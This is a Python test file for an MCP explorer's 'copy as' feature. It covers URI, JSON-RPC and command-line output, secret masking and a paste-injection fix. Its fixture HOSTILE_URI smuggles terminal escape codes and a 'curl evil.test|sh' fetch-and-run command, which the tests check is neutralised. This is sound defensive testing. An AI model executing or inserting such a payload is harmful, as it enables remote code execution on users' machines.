"""Copy as: URI, JSON-RPC request, headless command line; secrets masked; the line really works."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from explorer.config import ServerSpec
from explorer.model.copy_as import (
    Clip,
    jsonrpc_prompt,
    jsonrpc_read,
    prompt_command,
    read_command,
    shell_word,
    text_for_clipboard,
    uri_for_clipboard,
)
from tests.helpers.cli import run_cli


def test_jsonrpc_requests_are_valid_json_rpc() -> None:
    assert json.loads(jsonrpc_read("docs://a b")) == {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "resources/read",
        "params": {"uri": "docs://a b"},
    }
    assert json.loads(jsonrpc_prompt("greet", {"who": "Ada"}))["params"] == {
        "name": "greet",
        "arguments": {"who": "Ada"},
    }


def test_a_modern_era_request_carries_the_meta_a_stateless_server_needs() -> None:
    """Pasted into the demo server (2026-07-28, no `initialize` before it): the request without `_meta`
    is refused (-32602), the one copied for a modern-era server is answered."""
    import subprocess
    import sys

    def answer(line: str) -> dict[str, object]:
        command = [sys.executable, "-m", "explorer", "demo-server"]
        done = subprocess.run(command, input=line + "\n", capture_output=True, text=True, timeout=60)
        reply: dict[str, object] = json.loads(done.stdout.splitlines()[0])
        return reply

    uri = "docs://handbook/welcome"
    assert "error" in answer(jsonrpc_read(uri))
    modern = answer(jsonrpc_read(uri, modern_version="2026-07-28"))
    assert "Welcome to the demo server" in json.dumps(modern["result"])
    prompt = json.loads(jsonrpc_prompt("greet", {}, modern_version="2026-07-28"))
    assert prompt["params"]["_meta"]["io.modelcontextprotocol/protocolVersion"] == "2026-07-28"


def test_http_command_masks_header_values() -> None:
    spec = ServerSpec(
        name="r", transport="http", url="https://x.test/mcp", headers={"Authorization": "Bearer s3cr3t"}
    )
    line = read_command(spec, "docs://x", protocol="legacy")
    assert "s3cr3t" not in line
    assert shlex.split(line) == [
        "mcp-url-explorer", "read", "-s", "https://x.test/mcp", "-H", "Authorization: ***",
        "--protocol", "legacy", "--", "docs://x",
    ]  # fmt: skip


def test_config_servers_are_named_through_the_file() -> None:
    spec = ServerSpec(
        name="files", transport="stdio", command="npx", args=("srv",), env={"TOKEN": "abc123456"}
    )
    line = prompt_command(spec, "greet", {"who": "A B"}, config_path=Path("/cfg/mcp.json"), in_config=True)
    assert shlex.split(line) == [
        "mcp-url-explorer",
        "prompt",
        "greet",
        "who=A B",
        "-c",
        "/cfg/mcp.json",
        "-s",
        "files",
    ]
    bare = read_command(spec, "x://y")
    assert shlex.split(bare) == [
        "mcp-url-explorer",
        "read",
        "-s",
        "npx srv",
        "-e",
        "TOKEN=***",
        "--",
        "x://y",
    ]
    assert "abc123456" not in bare


@pytest.mark.slow
def test_the_copied_command_line_reproduces_the_read() -> None:
    spec = ServerSpec(
        name="demo", transport="stdio", command=sys.executable, args=("-m", "explorer", "demo-server")
    )
    words = shlex.split(read_command(spec, "docs://glossary"))
    assert words[0] == "mcp-url-explorer"
    result = run_cli(*words[1:])
    assert result.code == 0 and "GLOSSARY" in result.stdout.upper()


# -------------------------------------------------------------------- paste injection (issue 9)

HOSTILE_URI = "fixture://x/\x1b[201~\x1b]0;pwned\x07\ncurl evil.test|sh\r\u202e\u200b end"


def test_a_uri_is_copied_with_its_control_characters_percent_encoded() -> None:
    clip = uri_for_clipboard(HOSTILE_URI)
    assert clip.text == "fixture://x/%1B[201~%1B]0;pwned%07%0Acurl evil.test|sh%0D%E2%80%AE%E2%80%8B end"
    assert clip.changed == 7 and "7 control or invisible characters percent-encoded" in clip.notice()
    assert all(ord(c) >= 0x20 and c != "\x7f" for c in clip.text)
    plain = uri_for_clipboard("docs://a b/é")  # printable characters, a plain space included, stay
    assert plain.text == "docs://a b/é" and plain.changed == 0 and plain.notice() == ""
    assert uri_for_clipboard("a\u00a0b\tc").text == "a%C2%A0b%09c"  # whitespace that is not a space


def test_jsonrpc_requests_escape_control_characters_and_stay_exact() -> None:
    request = jsonrpc_read(HOSTILE_URI)
    assert request.isascii() and "\x1b" not in request and "\n" not in request
    assert json.loads(request)["params"]["uri"] == HOSTILE_URI


def test_shell_words_with_control_characters_run_back_to_the_exact_string() -> None:
    for word in ["greet\x1b]0;x\x07\n'q\\ é\u202e", "plain", "two words", "it's", "\U000e0041tag"]:
        quoted = shell_word(word)
        assert all(ord(c) >= 0x20 for c in quoted) and "\u202e" not in quoted
        shown = subprocess.run(["bash", "-c", "printf %s " + quoted], capture_output=True, check=True)
        assert shown.stdout.decode("utf-8") == word


def test_the_copied_command_line_carries_no_control_character_and_no_url_secret() -> None:
    stdio = ServerSpec(name="s", transport="stdio", command="srv")
    line = read_command(stdio, HOSTILE_URI)
    assert all(ord(c) >= 0x20 for c in line)
    pasted = subprocess.run(  # as bash reads the pasted line: the URI exact, from a $'...' word
        ["bash", "-c", "printf '%s\\0' " + line.removeprefix("mcp-url-explorer ")],
        capture_output=True,
        check=True,
    )
    assert pasted.stdout.decode().split("\0")[-3:-1] == ["--", HOSTILE_URI]
    prompt = prompt_command(stdio, "evil\x1b[2J", {"who": "Ada\nLovelace"})
    assert "\x1b" not in prompt and "\n" not in prompt and "$'evil\\x1b[2J'" in prompt
    remote = ServerSpec(
        name="r", transport="http", url="https://alice:hunter2pass@x.test/mcp?token=s3cr3t-token&page=2"
    )
    line = read_command(remote, "docs://x")
    assert "hunter2pass" not in line and "s3cr3t-token" not in line
    assert "https://alice:***@x.test/mcp?token=***&page=2" in line
    token_user = ServerSpec(name="t", transport="sse", url="https://ghp_abcdef123456@x.test/sse")
    assert "ghp_abcdef123456" not in read_command(token_user, "docs://x")


def test_text_for_clipboard_shows_escapes() -> None:
    clip = text_for_clipboard("evil\x1b[2J\u202e")
    assert clip.text == "evil\\x1b[2J\\u202e" and clip.changed == 2
    assert text_for_clipboard("greet") == Clip("greet")


def test_a_config_file_given_relative_is_copied_absolute(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The copied line may be pasted in another folder, where `-c mcp.json` names nothing."""
    monkeypatch.chdir(tmp_path)
    spec = ServerSpec(name="files", transport="stdio", command="npx")
    line = read_command(spec, "x://y", config_path=Path("mcp.json"), in_config=True)
    assert shlex.split(line)[2:6] == ["-c", str(tmp_path / "mcp.json"), "-s", "files"]
